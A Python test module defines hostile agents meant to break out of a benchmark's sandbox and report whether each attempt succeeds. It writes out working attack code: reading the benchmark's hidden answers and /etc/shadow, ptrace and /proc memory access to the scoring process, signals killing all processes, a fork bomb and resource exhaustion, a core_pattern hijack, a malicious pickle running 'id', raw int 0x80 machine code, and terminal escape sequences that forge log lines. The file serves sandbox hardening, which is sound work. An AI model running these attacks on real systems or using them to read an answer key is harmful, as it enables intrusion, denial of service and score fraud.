"""Agents that try to break out of the sandbox. Each says ESCAPED if it succeeds and else what stopped it.

`targets.json` beside this file tells them what an insider would know: where the key is, who the board is, what listens.
"""

from __future__ import annotations

import contextlib
import ctypes
import gc
import json
import mmap
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import numpy as np

_FILE = Path(__file__).with_name("targets.json")
TARGETS: dict[str, Any] = json.loads(_FILE.read_text(encoding="utf-8")) if _FILE.is_file() else {}


def attempt(*ways: Callable[[], object]) -> None:
    """Try every way; report."""
    stopped = []
    for way in ways:
        try:
            got = way()
        except Exception as error:  # noqa: BLE001  (whatever stops it is told)
            stopped.append(type(error).__name__)
        else:
            raise RuntimeError(f"ESCAPED by way {len(stopped) + 1}: {got!r}"[:200])
    raise RuntimeError("stopped: " + ", ".join(stopped))


def must(found: Iterable[object]) -> object:
    """What was found, or an error that nothing was."""
    kept = list(found)
    if not kept:
        raise LookupError("nothing")
    return kept


def protocol() -> int:
    """The descriptor of the pipe that the answers go into: found as anybody would find it."""
    own = os.stat(1)
    for number in range(3, 64):
        try:
            status = os.fstat(number)
        except OSError:
            continue
        if os.readlink(f"/proc/self/fd/{number}").startswith("pipe:") and status.st_ino != own.st_ino:
            try:
                os.write(number, b"")
            except OSError:
                continue
            return number
    raise LookupError("no pipe")


class Hostile:
    """Waits for its first step."""

    def reset(self, task: Any, seed: int | None = None) -> None:
        self.task = task

    def act(self, observation: Any, info: Any) -> Any:
        raise NotImplementedError


class Histories(Hostile):
    """The history files, the package that reads them, and anything that looks like them anywhere."""

    def act(self, observation: Any, info: Any) -> Any:
        from progressgym import History
        from progressgym.histories.history import shipped_folder

        def anywhere() -> object:
            import progressgym

            names = ("answers.npz", "standings.json", "board-v1.toml")
            own = Path(progressgym.__file__).parents[1]  # next to the interpreter, where nothing else is looked through
            places = [own / "progressgym", "/tmp", "/home", "/mnt", "/srv", "/var", "/opt", *TARGETS["beside"]]
            return must(
                os.path.join(where, name)
                for place in places
                for where, _, files in os.walk(place)
                for name in files
                if name in names
            )

        attempt(
            lambda: History.load("histsmol-v1"),
            lambda: History.load("resampled:histsmol-v1?seed=0"),
            lambda: (shipped_folder("histsmol-v1") / "answers.npz").read_bytes(),
            lambda: Path(TARGETS["answers"]).read_bytes(),
            lambda: __import__("progressgym.leaderboard.truth"),
            anywhere,
        )


class Memory(Hostile):
    """The board's memory, by way of /proc and ptrace."""

    def act(self, observation: Any, info: Any) -> Any:
        libc = ctypes.CDLL(None, use_errno=True)

        first = 1 if os.getpid() != 1 else TARGETS["pid"]  # unless that is this process itself

        def others() -> object:
            numbers = [int(name) for name in os.listdir("/proc") if name.isdigit()]
            lines = [Path(f"/proc/{n}/cmdline").read_bytes() for n in numbers]
            return must(line for line in lines if line == TARGETS["command"].encode())

        def traced(process: int) -> object:
            if libc.ptrace(16, process, None, None) != 0:
                raise OSError(ctypes.get_errno(), "ptrace")
            return process

        attempt(
            lambda: os.open(f"/proc/{TARGETS['pid']}/mem", os.O_RDONLY),
            lambda: traced(TARGETS["pid"]),
            lambda: traced(first),
            lambda: os.open(f"/proc/{first}/mem", os.O_RDONLY),
            others,
        )


class Secrets(Hostile):
    """The key, the store, private histories, home."""

    def act(self, observation: Any, info: Any) -> Any:
        attempt(
            *(lambda path=path: Path(path).read_bytes() for path in TARGETS["secrets"]),
            lambda: must(os.listdir(TARGETS["home"])),
            lambda: Path("/etc/shadow").read_bytes(),
            lambda: Path("/etc/passwd").read_bytes(),
        )


class Environment(Hostile):
    """The environment object, in this process's own memory."""

    def act(self, observation: Any, info: Any) -> Any:
        from progressgym.envs.base import ProgressEnv
        from progressgym.histories.history import History

        def objects() -> object:
            return must(found for found in gc.get_objects() if isinstance(found, (ProgressEnv, History)))

        def frames() -> object:
            frame, seen = sys._getframe(), []
            while frame is not None:
                seen += [value for value in frame.f_locals.values() if isinstance(value, (ProgressEnv, History))]
                frame = frame.f_back  # type: ignore[assignment]
            return must(seen)

        attempt(objects, frames, lambda: self.task.first_model.adapter, lambda: info["scores"])


class Variables(Hostile):
    """Environment variables of the board."""

    def act(self, observation: Any, info: Any) -> Any:
        everything = [Path(f"/proc/{n}/environ").read_bytes() for n in os.listdir("/proc") if n == "self"]
        seen = " ".join(f"{k}={v}" for k, v in os.environ.items()) + repr(everything)
        attempt(
            lambda: must(name for name in ("SECRET", "PASSWORD", "PYTEST", "PROGRESSGYM_SHARED") if name in seen),
            lambda: must([v for v in (os.environ.get("PROGRESSGYM_TEST_SECRET"),) if v]),
        )


class Network(Hostile):
    """Connections to the board's machine and to the world, names, sockets of the file system and abstract ones."""

    def act(self, observation: Any, info: Any) -> Any:
        def connect(family: int, where: Any, kind: int = socket.SOCK_STREAM) -> object:
            with socket.socket(family, kind) as one:
                one.settimeout(2)
                one.connect(where)
                return where

        def datagram() -> object:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                return one.sendto(b"x", ("192.0.2.1", 53))

        attempt(
            lambda: connect(socket.AF_INET, ("127.0.0.1", TARGETS["port"])),
            lambda: connect(socket.AF_INET, ("192.0.2.1", 80)),
            lambda: connect(socket.AF_INET6, ("2001:db8::1", 80)),
            datagram,
            lambda: socket.getaddrinfo("example.org", 80),
            lambda: connect(socket.AF_UNIX, TARGETS["unix"]),
            lambda: connect(socket.AF_UNIX, "\0" + TARGETS["abstract"]),
        )


class Signals(Hostile):
    """Signals to the board, to its group, to everybody."""

    def act(self, observation: Any, info: Any) -> Any:
        attempt(
            lambda: os.kill(TARGETS["pid"], signal.SIGKILL),
            lambda: os.killpg(TARGETS["group"], signal.SIGKILL),
            lambda: os.kill(TARGETS["pid"], signal.SIGSTOP),
        )


class SignalsToAll(Hostile):
    """Kills whatever it can see."""

    def act(self, observation: Any, info: Any) -> Any:
        os.kill(-1, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)


class Writing(Hostile):
    """The package, the interpreter, the system, its own code."""

    def act(self, observation: Any, info: Any) -> Any:
        import progressgym

        places = [Path(progressgym.__file__), Path(np.__file__), Path(__file__), Path("/usr/bin/x"), Path("/x")]
        attempt(
            *(lambda place=place: place.write_bytes(b"x") for place in places),
            lambda: os.makedirs("/dev/x"),
            lambda: Path("/proc/sys/kernel/core_pattern").write_text("|/tmp/x"),
        )


class Privileges(Hostile):
    """New namespaces, mounts, root."""

    def act(self, observation: Any, info: Any) -> Any:
        libc = ctypes.CDLL(None, use_errno=True)

        def called(result: int) -> object:
            if result != 0:
                raise OSError(ctypes.get_errno(), "refused")
            return result

        attempt(
            lambda: called(libc.unshare(0x10000000)),
            lambda: called(libc.umount2(TARGETS["masked"].encode(), 2)),
            lambda: called(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
            lambda: os.setgroups([0]),
            lambda: os.chroot("/tmp"),
            lambda: subprocess.run(["mount", "-o", "remount,rw", "/"], check=True, capture_output=True),
        )


class ForkBomb(Hostile):
    """Processes without end."""

    def act(self, observation: Any, info: Any) -> Any:
        refused = 0
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(60)
            except OSError:
                refused += 1
                if refused > 1000:
                    raise


class FillDisk(Hostile):
    """Files without end, wherever it may write."""

    def act(self, observation: Any, info: Any) -> Any:
        reached = 0
        for folder in ("/tmp", "/dev/shm"):
            number = 0
            try:
                while True:
                    with open(f"{folder}/{number}", "wb") as file:
                        file.write(bytes(4 << 20))
                    number += 1
                    reached += 4
                    if reached > 1000:
                        raise RuntimeError("ESCAPED: a gigabyte on disk")
            except OSError as error:
                last = error
        raise last


class FillMemory(Hostile):
    """Memory of one process without end."""

    def act(self, observation: Any, info: Any) -> Any:
        kept = []
        while True:
            kept.append(np.ones(4 << 20))


class FillMemoryTogether(Hostile):
    """Memory of many processes, each within its limit."""

    def act(self, observation: Any, info: Any) -> Any:
        for _ in range(6):
            if os.fork() == 0:
                break
        kept = [np.ones(2 << 20) for _ in range(8)]
        time.sleep(60)
        return kept


class Hang(Hostile):
    """Never answers."""

    def act(self, observation: Any, info: Any) -> Any:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(10_000)


class HangAtImport(Hostile):
    """Never becomes ready."""

    def reset(self, task: Any, seed: int | None = None) -> None:
        while True:
            pass


class Flood(Hostile):
    """Writes into the pipe without end."""

    def act(self, observation: Any, info: Any) -> Any:
        pipe = protocol()
        while True:
            os.write(pipe, b"x" * 65536)


class FloodPrinting(Hostile):
    """Prints without end."""

    def act(self, observation: Any, info: Any) -> Any:
        while True:
            print("x" * 65536)


class Malformed(Hostile):
    """A frame that announces more than anybody has memory for."""

    def act(self, observation: Any, info: Any) -> Any:
        os.write(protocol(), b"PGF1" + b"\x10\0\0\0" + b"\xff" * 8)
        time.sleep(60)


class BadHeader(Hostile):
    """A frame whose header is an abyss of brackets."""

    def act(self, observation: Any, info: Any) -> Any:
        header = b"[" * 4000
        os.write(protocol(), b"PGF1" + len(header).to_bytes(4, "little") + bytes(8) + header)
        time.sleep(60)


class Pickled(Hostile):
    """A pickle instead of a frame."""

    def act(self, observation: Any, info: Any) -> Any:
        os.write(protocol(), b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R." * 4)
        time.sleep(60)


class TooEarly(Hostile):
    """Answers twice."""

    def act(self, observation: Any, info: Any) -> Any:
        from progressgym.core.frames import encode
        from progressgym.envs.messages import actions_frame

        answer = np.zeros((1, *self.task.action_shape), np.float32)
        os.write(protocol(), encode(actions_frame(answer)))
        return answer[0]


class ClosesPipe(Hostile):
    """Closes the pipe and goes on living."""

    def act(self, observation: Any, info: Any) -> Any:
        for number in range(3, 64):
            try:
                os.close(number)
            except OSError:
                continue
        os.close(1)
        time.sleep(60)


class NotANumber(Hostile):
    """NaN, past the checks of its own side."""

    def act(self, observation: Any, info: Any) -> Any:
        from progressgym.core.frames import encode
        from progressgym.envs.messages import actions_frame

        os.write(protocol(), encode(actions_frame(np.full((1, *self.task.action_shape), np.nan, np.float32))))
        time.sleep(60)


class WrongShape(Hostile):
    """Answers to other questions."""

    def act(self, observation: Any, info: Any) -> Any:
        from progressgym.core.frames import encode
        from progressgym.envs.messages import actions_frame

        items, options = self.task.action_shape
        os.write(protocol(), encode(actions_frame(np.zeros((1, options, items), np.float32))))
        time.sleep(60)


def call(name: str, *arguments: Any) -> int:
    """A system call by its name; the numbers are those of the filter, whatever became of it."""
    from progressgym.core.confine import MACHINES, REFUSED

    number = REFUSED[name][MACHINES[os.uname().machine].column]
    if number is None:
        raise PermissionError("there is no such call here")
    libc = ctypes.CDLL(None, use_errno=True)
    result = int(libc.syscall(ctypes.c_long(number), *arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


class KeyRings(Hostile):
    """Keys that the kernel holds for whoever comes next, in every ring there is, and a look for those of before."""

    def act(self, observation: Any, info: Any) -> Any:
        rings = range(-1, -6, -1)  # of the thread, the process, the session, the user, the user's session

        def write(ring: int) -> int:
            return call("add_key", b"user", b"values", b"0.1 0.2", ctypes.c_size_t(7), ctypes.c_int(ring))

        attempt(
            *(lambda ring=ring: write(ring) for ring in rings),
            *(lambda ring=ring: call("keyctl", 10, ctypes.c_int(ring), b"user", b"values", 0) for ring in rings),
            lambda: call("request_key", b"user", b"values", None, 0),
            lambda: call("keyctl", 1, b"progressgym"),
            lambda: must(
                line for line in Path("/proc/keys").read_text(encoding="utf-8").splitlines() if "values" in line
            ),
        )


class MemoryFiles(Hostile):
    """Memory that no page table shows: memory files, segments, queues, shared pages that are then let go."""

    def act(self, observation: Any, info: Any) -> Any:
        size = 1 << 30

        def shared(descriptor: int) -> object:
            with mmap.mmap(descriptor, size, flags=mmap.MAP_SHARED) as held:
                for page in range(0, size, mmap.PAGESIZE):
                    held[page] = 1
                    if page % (16 << 20) == 0:
                        held.madvise(mmap.MADV_DONTNEED)
                return size

        def device() -> object:
            return shared(os.open("/dev/zero", os.O_RDWR))

        attempt(
            lambda: os.memfd_create("held"),
            lambda: call("memfd_secret", 0),
            lambda: call("shmget", 0, ctypes.c_size_t(size), 0o1600),
            lambda: call("msgget", 0, 0o1600),
            lambda: call("semget", 0, 1000, 0o1600),
            lambda: call("mq_open", b"held", 0o102, 0o600, None),
            lambda: call("vmsplice", 1, None, 0, 0),
            lambda: shared(-1),
            device,
        )


class FullSockets(Hostile):
    """Memory in the buffers of sockets and pipes that nobody reads."""

    def act(self, observation: Any, info: Any) -> Any:
        kept, held = [], 0
        while True:
            try:
                kept.append(socket.socketpair())
            except OSError:
                if held > 64 << 20:
                    raise RuntimeError(f"ESCAPED: {held} bytes") from None
                raise
            for one in kept[-1]:
                one.setblocking(False)
                with contextlib.suppress(PermissionError):
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                try:
                    while True:
                        held += one.send(bytes(1 << 16))
                except BlockingIOError:
                    continue


class PageCache(Hostile):
    """Which pages of a file that every sandbox sees somebody has read before, and ways to change that."""

    def act(self, observation: Any, info: Any) -> Any:
        file = os.open(np.__file__, os.O_RDONLY)
        size = os.fstat(file).st_size

        def resident() -> object:
            with mmap.mmap(file, size, access=mmap.ACCESS_COPY) as view:
                start = ctypes.addressof(ctypes.c_char.from_buffer(view))
                seen = ctypes.create_string_buffer(size // mmap.PAGESIZE + 1)
                return call("mincore", ctypes.c_void_p(start), ctypes.c_size_t(size), seen)

        attempt(
            resident,
            lambda: call("cachestat", file, ctypes.create_string_buffer(16), ctypes.create_string_buffer(40), 0),
            lambda: os.preadv(file, [bytearray(10)], 0, os.RWF_NOWAIT),
            lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED),
            lambda: call("readahead", file, ctypes.c_long(0), ctypes.c_size_t(size)),
            lambda: call("move_pages", 0, ctypes.c_ulong(0), None, None, None, 0),
        )


class SharedFiles(Hostile):
    """Messages to an agent in another sandbox, by locks on a file that both see and by watching what it opens."""

    def act(self, observation: Any, info: Any) -> Any:
        import fcntl
        import struct

        file = os.open(np.__file__, os.O_RDONLY)
        whole = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 0, 0)
        attempt(
            lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB),
            *(lambda way=way: fcntl.fcntl(file, way, whole) for way in (5, 6, 7, 36, 37, 38)),
            lambda: fcntl.fcntl(os.open("/usr", os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_MULTISHOT),
            lambda: call("inotify_init1", 0),
            lambda: call("inotify_add_watch", 0, b"/usr", 1),
            lambda: fcntl.fcntl(os.pipe()[0], 1031, 1 << 20),
        )


class OtherNetworks(Hostile):
    """Sockets that no network namespace divides (AF_VSOCK), and large doors of the kernel (AF_ALG, AF_PACKET, ...)."""

    def act(self, observation: Any, info: Any) -> Any:
        kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW)
        others = [family for family in range(46) if family not in (0, 1, 2, 10, 16)]

        def opened(family: int) -> Iterable[tuple[int, int]]:
            for kind in kinds:
                with contextlib.suppress(PermissionError), socket.socket(family, kind):
                    yield family, kind

        attempt(lambda: must(pair for family in others for pair in opened(family)))


class EmptyFiles(Hostile):
    """Memory of files that hold nothing."""

    def act(self, observation: Any, info: Any) -> Any:
        made = 0
        while True:
            os.close(os.open(f"{('/tmp', '/dev/shm')[made % 2]}/{made}", os.O_CREAT))
            made += 1


class Doors(Hostile):
    """Large doors of the kernel, and the memory of other processes."""

    def act(self, observation: Any, info: Any) -> Any:
        space = ctypes.create_string_buffer(256)
        libc = ctypes.CDLL(None, use_errno=True)

        def cloned() -> int:
            from progressgym.core.confine import CLONE, MACHINES

            number = CLONE[MACHINES[os.uname().machine].column]
            child = int(libc.syscall(ctypes.c_long(number), ctypes.c_ulong(0x10000000 | signal.SIGCHLD), 0, 0, 0, 0))
            if child == 0:
                os._exit(0)
            if child < 0:
                raise OSError(ctypes.get_errno(), "clone")
            return child

        attempt(
            lambda: call("bpf", 0, space, 48),
            lambda: call("perf_event_open", space, 0, -1, -1, 0),
            lambda: call("userfaultfd", 1),
            lambda: call("io_uring_setup", 1, space),
            lambda: call("ptrace", 0, 0, None, None),
            lambda: call("process_vm_readv", os.getpid(), None, 0, None, 0, 0),
            lambda: call("kcmp", os.getpid(), os.getpid(), 0, 0, 0),
            lambda: call("name_to_handle_at", -100, b"/", space, space, 0),
            lambda: call("unshare", 0),
            lambda: call("setns", 0, 0),
            lambda: call("fsopen", b"tmpfs", 0),
            lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
            lambda: call("kexec_load", 0, 0, None, 0),
            lambda: call("syslog", 3, space, 256),
            cloned,
        )


class CallsOfX32(Hostile):
    """System calls by the numbers of another interface of the same processor."""

    def act(self, observation: Any, info: Any) -> Any:
        if os.uname().machine != "x86_64":
            os.kill(os.getpid(), signal.SIGSYS)  # there is only one interface
        result = ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 + 39))
        raise RuntimeError(f"ESCAPED: {result}")


class CallsOf32Bits(Hostile):
    """`int 0x80`: the numbers of the 32-bit interface, from machine code of its own."""

    def act(self, observation: Any, info: Any) -> Any:
        if os.uname().machine != "x86_64":
            os.kill(os.getpid(), signal.SIGSYS)
        code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
        result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
        raise RuntimeError(f"ESCAPED: {result}")


class Terminal(Hostile):
    """Escape sequences for whoever reads the log."""

    def act(self, observation: Any, info: Any) -> Any:
        raise RuntimeError("\x1b[2J\x1b]0;owned\x07 \u202e all is well\n2026-01-01 board: reproduced" + "x" * 5000)
